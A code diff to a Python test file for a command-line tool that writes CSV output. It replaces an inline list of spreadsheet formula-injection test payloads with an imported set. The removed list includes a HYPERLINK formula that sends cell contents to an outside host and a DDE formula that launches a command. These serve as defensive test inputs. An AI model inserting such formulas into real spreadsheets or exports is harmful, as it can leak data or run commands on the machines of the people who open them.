@@ -18,20 +18,14 @@ from inspect_cli.cli import app
 from inspect_cli.errors import OutputError
 from inspect_cli.frameworks import Framework
 from inspect_cli.safe_write import write_atomic
+from tests.helpers.payloads import FORMULA
 
 from .builders import case_table, set_cell, write_csv
 from .conftest import SAMPLES
 
 runner = CliRunner(env={"COLUMNS": "250", "NO_COLOR": "1"})
-PAYLOADS = [
-    '=HYPERLINK("http://x/?"&A1,"y")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "\t=1+1",
-    "=",
-]
+# Case references must differ once trimmed, or the payloads would be duplicate cases.
+PAYLOADS = list({p.strip(): p for p in FORMULA}.values())
 
 
 def test_a_failed_write_leaves_the_previous_output_and_no_temp_file(tmp_path: Path) -> None:
